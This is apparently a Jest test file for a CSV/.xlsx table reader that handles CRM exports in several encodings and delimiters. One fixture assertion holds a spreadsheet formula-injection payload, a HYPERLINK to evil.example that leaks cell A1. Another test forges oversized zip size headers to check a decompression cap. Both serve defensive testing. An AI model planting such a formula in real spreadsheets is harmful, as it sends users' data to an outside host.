/** readTable: CSV in every delimiter and encoding CRMs export, and .xlsx exports, as header + raw rows. */
import fs from "fs";
import path from "path";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { RawTable, decodeText, readTable } from "../../src/hosts/xlsx/read-table";
import { encodeGbk } from "../generators/crm/gbk";

const FIXTURES = path.join(__dirname, "../fixtures/crm");
const fixture = (name: string) => fs.readFileSync(path.join(FIXTURES, name));

async function read(bytes: Uint8Array, options: Parameters<typeof readTable>[1] = {}): Promise<RawTable> {
  const result = await readTable(bytes, options);
  if (!result.ok) throw new Error(result.error.en);
  return result.table;
}

describe("readTable: CSV", () => {
  it("reads UTF-8 with a BOM (Zoho's export) and numbers rows as a spreadsheet shows them", async () => {
    const table = await read(fixture("zoho-deals.csv"));
    expect(table.format).toBe("csv");
    expect(table.encoding).toBe("utf-8-bom");
    expect(table.delimiter).toBe(",");
    expect(table.header[0]).toBe("Record Id"); // no BOM left on the first header
    expect(table.header).toContain("Probability (%)");
    expect(table.rows).toHaveLength(11);
    expect(table.rows[0].row).toBe(2);
    // A quoted field with doubled quotes comes back as written in the CRM.
    expect(table.rows[2].cells[2]).toBe('=HYPERLINK("http://evil.example/?leak="&A1,"Open deal")');
    // A field starting with a tab keeps it: the reader changes nothing.
    expect(table.rows[9].cells[2]).toBe("\tTab Corp deal");
  });

  it("finds tab and semicolon delimiters", async () => {
    expect((await read(fixture("generic-deals.tsv"))).delimiter).toBe("\t");
    const semicolon = await read(fixture("custom-export.csv"));
    expect(semicolon.delimiter).toBe(";");
    expect(semicolon.rows[0].cells[4]).toBe("1.234,50");
  });

  it("decodes GBK (Excel's CSV on Chinese Windows) through GB18030 when the bytes are not UTF-8", async () => {
    const source = fixture("fxiaoke-orders.utf8.csv").toString("utf8");
    const gbk = fixture("fxiaoke-orders.gbk.csv");
    // The committed GBK file is exactly the UTF-8 source encoded by the test helper.
    expect(Buffer.compare(gbk, encodeGbk(source))).toBe(0);
    expect(() => new TextDecoder("utf-8", { fatal: true }).decode(gbk)).toThrow();
    const fromGbk = await read(gbk);
    const fromUtf8 = await read(Buffer.from(source, "utf8"));
    expect(fromGbk.encoding).toBe("gb18030");
    expect(fromUtf8.encoding).toBe("utf-8");
    expect(fromGbk.header).toEqual([
      "销售订单编号",
      "客户名称",
      "负责人",
      "订单金额",
      "下单日期",
      "已回款金额",
      "订单状态",
      "创建时间",
    ]);
    expect(fromGbk.rows).toEqual(fromUtf8.rows);
  });

  it("decodes UTF-16 with a BOM (Excel's Unicode text export, tab separated)", async () => {
    const text = "负责人\t金额\n李伟\t100\n";
    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);
    const table = await read(le);
    expect(table.encoding).toBe("utf-16le");
    expect(table.header).toEqual(["负责人", "金额"]);
    expect(table.rows[0].cells).toEqual(["李伟", "100"]);
    expect(decodeText(le).text).toBe(text);
  });

  it("skips title rows above the header when told what a header looks like, and blank rows, keeping row numbers", async () => {
    const csv =
      'Opportunity report\nFiltered by: Close Date = THIS QUARTER\n\nOwner,Amount\n"Li, Wei",100\n\n"multi\nline",200\n';
    const table = await read(Buffer.from(csv), { isHeader: (cells) => cells.includes("Owner") });
    expect(table.headerRow).toBe(4);
    expect(table.header).toEqual(["Owner", "Amount"]);
    expect(table.rows.map((r) => [r.row, ...r.cells])).toEqual([
      [5, "Li, Wei", "100"],
      // Record 7 (the blank line 6 is skipped, not renumbered); its quoted field holds a line break.
      [7, "multi\nline", "200"],
    ]);
  });

  it("without isHeader the first non-empty row is the header", async () => {
    const table = await read(Buffer.from("\n\nA,B\n1,2\n"));
    expect(table.headerRow).toBe(3);
    expect(table.rows[0].row).toBe(4);
  });

  it("refuses empty files, old .xls files and broken .xlsx files with bilingual messages", async () => {
    const empty = await readTable(Buffer.from("\n\n"), { fileName: "a.csv" });
    expect(empty).toEqual({
      ok: false,
      error: { en: "a.csv: the file holds no rows", zh: "a.csv：文件中没有数据行" },
    });
    const xls = await readTable(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), {
      fileName: "old.xls",
    });
    expect(xls.ok).toBe(false);
    if (!xls.ok) {
      expect(xls.error.en).toMatch(/\.xls\) files cannot be read/);
      expect(xls.error.zh).toMatch(/另存为 \.xlsx 或 CSV/);
    }
    const fake = await readTable(Buffer.from("not a zip"), { fileName: "deals.xlsx" });
    expect(fake.ok).toBe(false);
  });
});

describe("readTable: .xlsx", () => {
  async function exportWorkbook(): Promise<Buffer> {
    const wb = new ExcelJS.Workbook();
    const hidden = wb.addWorksheet("Hidden");
    hidden.state = "hidden";
    hidden.getCell("A1").value = "not this one";
    const ws = wb.addWorksheet("Opportunities");
    ws.getCell("A1").value = "Opportunity Pipeline";
    ws.getCell("A2").value = {
      richText: [{ text: "Filtered By: " }, { text: "This quarter", font: { bold: true } }],
    };
    ws.addRow([]);
    ws.getRow(4).values = ["Opportunity Owner", "Opportunity Name", "Amount", "Close Date", "Won"];
    ws.getRow(5).values = ["Emily Chen", "Pied Piper", 45000, new Date(Date.UTC(2027, 0, 13)), true];
    ws.getRow(6).values = [
      "Emily Chen",
      { text: "Hooli", hyperlink: "https://example.com" },
      { formula: "1000*18.5", result: 18500 },
      46447,
      false,
    ];
    ws.getCell("D5").numFmt = "m/d/yyyy";
    return Buffer.from(await wb.xlsx.writeBuffer());
  }

  it("reads the first visible sheet; dates become Excel serials, formulas their cached result", async () => {
    const table = await read(await exportWorkbook(), { isHeader: (c) => c.includes("Opportunity Owner") });
    expect(table.format).toBe("xlsx");
    expect(table.sheet).toBe("Opportunities");
    expect(table.headerRow).toBe(4);
    // 2027-01-13: 2000-01-01 is serial 36526; 27 years with 7 leap days (2000..2024) = 9862 days, + 12.
    expect(table.rows[0].cells).toEqual(["Emily Chen", "Pied Piper", 45000, 36526 + 9862 + 12, true]);
    expect(table.rows[1].cells).toEqual(["Emily Chen", "Hooli", 18500, 46447, false]);
  });

  it('reads an ISO date cell (t="d") as its date, not as the number of its year', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet("Deals");
    ws.addRow(["Owner", "Close date", "Amount"]);
    ws.addRow(["Ann", 1, 100]);
    const zip = await JSZip.loadAsync(await wb.xlsx.writeBuffer());
    const xml = await zip.file("xl/worksheets/sheet1.xml")!.async("string");
    const iso = xml.replace(
      /<c r="B2"[^>]*><v>1<\/v><\/c>/,
      '<c r="B2" t="d"><v>2026-03-01T00:00:00Z</v></c>',
    );
    expect(iso).not.toBe(xml);
    zip.file("xl/worksheets/sheet1.xml", iso);
    const table = await read(await zip.generateAsync({ type: "uint8array" }));
    // 2026-03-01: 2026-01-01 is serial 46023 (2025-01-01 = 45658, + 365), + 31 + 28 days = 46082.
    expect(table.rows[0].cells).toEqual(["Ann", 46082, 100]);
  });

  it("reads a named sheet, and says which sheets exist when the name is wrong", async () => {
    const bytes = await exportWorkbook();
    const hidden = await read(bytes, { sheet: "Hidden" });
    expect(hidden.header).toEqual(["not this one"]);
    const missing = await readTable(bytes, { sheet: "Deals", fileName: "x.xlsx" });
    expect(missing).toEqual({
      ok: false,
      error: {
        en: 'x.xlsx: no worksheet "Deals" (has: Hidden, Opportunities)',
        zh: "x.xlsx：没有名为“Deals”的工作表（现有：Hidden、Opportunities）",
      },
    });
  });
});

describe("readTable: broken and oversized input (issue 20)", () => {
  it("stops at an unterminated quote, naming its row, instead of folding the rows below into it", async () => {
    const csv = 'Owner,Amount\nAnn,1\n"Bob,2\nCy,3\nDi,4\n';
    // Papaparse alone reads 2 data rows here: Bob's cell swallows Cy and Di.
    const read = await readTable(new TextEncoder().encode(csv), { fileName: "deals.csv" });
    expect(read.ok).toBe(false);
    if (!read.ok) {
      expect(read.error.row).toBe(3);
      expect(read.error.en).toMatch(/^deals\.csv: row 3: the quotes \("\) on this row do not pair up/);
    }
  });

  it("refuses an .xlsx whose parts declare more than the cap before ExcelJS inflates it", async () => {
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet("S").addRow(["Owner", "Amount"]);
    const bytes = Buffer.from(await wb.xlsx.writeBuffer());
    const entry = Buffer.from([0x50, 0x4b, 0x01, 0x02]);
    // Every part now claims 300 MB uncompressed: over the 256 MB a part may expand to.
    for (let at = bytes.indexOf(entry); at >= 0; at = bytes.indexOf(entry, at + 4)) {
      bytes.writeUInt32LE(300 * 1024 * 1024, at + 24);
    }
    const read = await readTable(bytes, { fileName: "bomb.xlsx" });
    expect(read.ok).toBe(false);
    if (!read.ok)
      expect(read.error.en).toMatch(
        /^bomb\.xlsx: expands to 300 MB \(.+\); an export read here may expand to 256 MB/,
      );
  });
});
